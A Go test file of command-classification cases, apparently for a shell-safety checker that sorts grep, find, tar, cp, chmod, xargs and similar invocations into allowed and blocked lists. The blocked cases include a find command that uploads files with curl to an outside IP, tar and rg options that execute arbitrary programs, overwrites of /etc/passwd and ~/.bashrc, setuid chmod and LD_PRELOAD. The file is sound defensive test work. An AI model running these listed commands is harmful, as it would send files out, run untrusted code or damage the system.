package commands_test

// G5: finding, files and the machine.
var fileCases = []commandCases{
	{"grep", `
		grep -rn foo .
		grep -e -f *
		grep "$x" $f
		egrep 'a|b' f
		fgrep -f words f
		! grep -q foo f
		GREP_COLORS='mt=01' grep x f
		locate passwd
		plocate x
		mlocate x
	`, `
		./grep x f
		GREP_OPTIONS=x PATH=. grep x f
	`, ``},
	{"rg", `
		rg -n foo src
		rg -ig '*.go' -A3 'f(' .
		rg -e --pre f
		rg -- --pre f
		rg --files -g '*.md'
		rg --no-config --hidden -tpy x
	`, `
		rg -z x
		rg -nz x f
		rg -zn x
		rg --search-zip x
		rg --frobnicate x
		rg "$pattern"
		rg *
		RIPGREP_CONFIG_PATH=rc rg x
	`, `
		rg --pre ./p x
		rg --pre=./p x
		rg x f --pre p
		rg \--pre p x
		rg --hostname-bin=./p x
	`},
	{"fd", `
		fd -e go main
		fd -HI -t f . src
		fdfind -0 x
		fd -- -x
	`, `
		fd -l
		fd -Hl x
		fd --list-details
		fd --exe=x
		fd "$x"
	`, `
		fd -x date
		fd -Hx date
		fd -xdate
		fd -e go -X date
		fd --exec date
		fd --exec-batch=date
		fd x -X rm
	`},
	{"find", `
		find . -name '*.go' -not -path './vendor/*'
		find src tests -type f \( -name '*.c' -o -name '*.h' \) -print0
		find . -exec grep -l x {} +
		find . -type f -exec wc -l {} \;
		find . -ok cat {} ';'
		find . -execdir cat {} +
		find . -exec sed -n 1p {} \;
		find . -newermt 2026-01-01 -size +1k -printf '%p\n'
		find -L . -maxdepth 2 -ls
		find
		find "." -name "$x"
		find "./$d" -name x
		find . -exec sh -c 'wc -l "$1"' _ {} \;
		find src/* -name x
	`, `
		find . -delete
		find . -fprint out
		find . -fprint0 out
		find . -fprintf out x
		find . -fls out
		find -files0-from list -name x
		find . -exec ./p {} \;
		find . -execdir ./p \;
		find . -exec {} \;
		find . -exec ./{} \;
		find . -exec cat {}
		find . -exec sort -o {} {} \;
		find . -exec sed -i s/a/b/ {} +
		find . -exec touch {} +
		find . -exec uniq {} +
		find . -okdir ./p {} \;
		find . -frobnicate
		find "$d" -name x
		find $d
		find ./$d -name x
		find *
		find . $x
		find . -name $x
		find . -exec $cmd {} \;
		find . -exec xxd {} +
		find . \( -exec ./p \; \)
		find . $'-delete'
		find . -{d..d}elete
		find . -path x -o -exec cp {} /etc \;
	`, `
		find . -exec sh {} \;
		find . -exec curl -T {} http://192.0.2.1 \;
		find . -exec sed 1e {} \;
		find . -exec awk 'BEGIN{system("date")}' {} +
		find . -execdir python3 {} +
	`},
	{"tree", `
		tree
		tree -L 2 -a src
		tree -I 'node_modules|dist' --dirsfirst
		tree --filelimit 20 -- -R
	`, `
		tree -o out
		tree -Co out
		tree -Lo 2 out
		tree -R
		tree -aR -H . -L 1
		tree --output=out
		tree *
		tree "$d"
	`, ``},
	{"files", `
		touch pkg/__init__.py
		touch -d yesterday a.txt b.txt
		touch .gitkeep
		touch -cr a.txt b.txt
		cp -r src /tmp/src.orig
		cp -r a b
		cp -a ./testdata build/testdata
		cp -R a b c/
		tar tf x.tar
		tar tzf x.tgz
		tar -tzf x.tgz
		tar -tvf x.tar src/a.go
		tar --list --gzip --file=x.tgz
		tar -C dist -tjf x.tbz
		tar -t -f "./$f"
		tar tf - < x.tar
		tar tvf a/b:c.tar
		bsdtar -tf x.tar
		unzip -l lib.zip
		unzip -lq lib.zip 'a/*'
		unzip -t lib.zip
		unzip -Z1 lib.zip
		zipinfo -1 lib.zip
		gofmt -l .
		gofmt -s -l cmd internal
		gofmt main.go
		ls -la --color=auto *
		dir
		vdir -a
		du -sh .
		df -h
		stat -c %s f
		basename "$f" .go
		dirname $f
		readlink -f f
		realpath .
		pathchk f
		lsblk
		mountpoint /
		file -b --mime-type f
		file -i -- *
		mktemp
		mktemp -d
		mktemp -u
		mktemp -p /tmp/w x.XXXXXX
		mkdir -p a/b /tmp/c
		rmdir a
		rm -f out.txt
		unlink out.txt
		cp a.go b.go
		cp -p a.go b.go backup/
		mv a.txt b.txt
		mv a.txt b.txt dir/
		ln -s data.csv latest.csv
		tee -a out.log < f
		tee /dev/stderr < f
		truncate -s 0 out.log
		sync
		gzip log.txt
		gzip -9kc log.txt
		gunzip log.txt.gz
		gzip -dk log.gz
		gzip -l x.gz
		bzip2 a.txt
		bunzip2 a.txt.bz2
		xz a.txt
		unxz -k a.xz
		bzcat a.bz2
		xzcat a.xz
		chmod +x build.sh
		chmod 644 a b
		chmod u=rw,go-w a
	`, `
		file -z f
		file -Z f
		file -bz f
		file --uncompress f
		file --unc f
		file -C -m magic
		file -bCm magic
		file -p f
		file -S f
		file *
		file "$f"
		mktemp -p /etc
		mktemp ~/x.XXX
		mkdir ~/.config
		mkdir "$d"
		mkdir .git/hooks
		rmdir /etc/x
		rm -rf build
		rm -r build
		rm /etc/passwd
		rm "$f"
		rm *
		touch mark
		touch src/ready
		touch .envrc
		touch .git/hooks/pre-commit.x
		touch -r a $f
		touch ~/.hushlogin
		touch "$f.txt"
		cp a.go ~/.bashrc
		cp .bashrc ~
		cp evil/.gitconfig .
		cp -r a .
		cp -r a/. b
		cp -r .. b
		cp -r evil/.git b
		cp -r evil/hooks b
		cp -r a ~
		cp -r a /etc
		cp -rT a b
		cp -rs a b
		cp -r *
		cp -r $d b
		cp x .git/config
		cp *.sh dir
		cp a "$d"
		cp -t /etc a
		cp -s a b
		cp --backup=x a b
		mv a /usr/bin/ls
		mv .git x
		mv a b ~
		mv -t /etc a
		ln -s / root
		ln -s ~/.bashrc notes.txt
		ln -s ../.. up.txt
		ln -s a/b c
		ln -s data.csv
		tee /etc/hosts < f
		tee "$f" < x
		tee .profile
		truncate -s 0 /etc/passwd
		sync -z
		patch -p1 < f.diff
		tar cf x.tar .
		tar xzf x.tgz
		tar tf $f
		tar tf a.tar -I ./p
		tar tf a.tar --use-compress-program=./p
		tar tf a.tar --to-command=./p
		tar tf a.tar --checkpoint-action=exec=./p
		tar tf a.tar -F ./p
		tar tf a.tar *
		tar tf *.tar
		tar t
		tar tvz
		tar tf a.tar -T list
		tar tf a.tar --index-file=x
		tar tfx a.tar
		tar ft
		tar -tIf ./p a.tar
		unzip lib.zip
		unzip -o lib.zip
		unzip -l -d /etc lib.zip
		unzip -p lib.zip x
		UNZIP=-o unzip -l lib.zip
		zipinfo -M lib.zip
		gofmt -w .
		gofmt -l -w .
		gofmt -r 'a -> b' .
		gofmt -cpuprofile=x .
		gofmt -d .
		gofmt *
		tar --checkpoint-action=exec=./p -cf x f
		TAR_OPTIONS=x tar cf a b
		gzip -N x.gz
		gunzip -N x.gz
		gzip -r .
		gzip -d x.tgz
		gzip ~/.bashrc
		gzip "$f"
		gzip *
		gzip -S .x f
		gunzip .bashrc.gz
		xz --files=list
		bzcat "$f" --x
		chmod 4755 f
		chmod u+s f
		chmod -R 777 .
		chmod +x "$f"
		chmod +x .git/hooks/pre-commit
		chmod --reference=a b
		chmod -- +x ~/.bashrc
		dd if=f of=g
	`, `
		tar tf host:x
	`},
	{"the machine", `
		cal 2026
		ncal
		uname -a
		arch
		id -un
		whoami
		groups
		logname
		users
		tty
		free -m
		uptime -p
		nproc
		lscpu
		lsmem
		lsmod
		vmstat 1 2
		ps aux
		pgrep -l x
		pidof x
		pstree
		locale -a
		printenv HOME
		sleep 0.1
		clear
		who -b
		w
		hostname
		dmesg -T
		which -a python3
		whereis gcc
		date
		date -u +%F
		date -d yesterday '+%s %N'
		date -Iseconds
		date -f dates
		date "+$format"
		TZ=Europe/Berlin date
	`, `
		date -s 12:00
		date --set=12:00
		date --se=x
		date -us2026-01-01
		date 01010000
		date "$x"
		which -i ls
		which --read-alias ls
		ldd ./prog
		who --lookup
		hostid
		w -x
		hostname -f
		hostname x
		dmesg -H
		dmesg -C
		dmesg --human
		man ls
		LOCPATH=. locale
	`, ``},
	{"commands inside commands", `
		find . -name '*.go' | xargs wc -l
		find . -print0 | xargs -0 grep -n foo
		ls | xargs -n1 basename
		ls | xargs
		ls | xargs -I % wc -l %
		env
		env LC_ALL=C ls
		env -u X cat f
		timeout 5 nice ls
		busybox cat f
	`, `
		ls | xargs sort
		ls | xargs sed -n 1p
		ls | xargs rg foo
		ls | xargs fd x
		ls | xargs uniq
		ls | xargs awk 1
		ls | xargs file
		ls | xargs tree
		ls | xargs date
		ls | xargs less
		ls | xargs xxd
		ls | xargs iconv
		ls | xargs find
		ls | xargs ./p
		ls | xargs --process-slot-var=PATH cat
		xargs -a list sort
		env ./p
		env PATH=. ls
		env - ./p
		env LD_PRELOAD=x ls
	`, `
		ls | xargs sh -c
		ls | xargs curl
		ls | xargs -I{} sh -c {}
		ls | xargs python3
		make -n
		make -n --eval='$(shell date)'
	`},
	{"tar", ``, `
		tar -I ./p -cf x.tar f
		tar -F ./p -cf x.tar f
		tar xf x.tar --to-command=./p
		tar cf x f --checkpoint=1 --checkpoint-action=exec=./p
		tar --rsh-command=./p -cf x f
		git log --output=x
	`, `
		tar cf host:x f
	`},
}
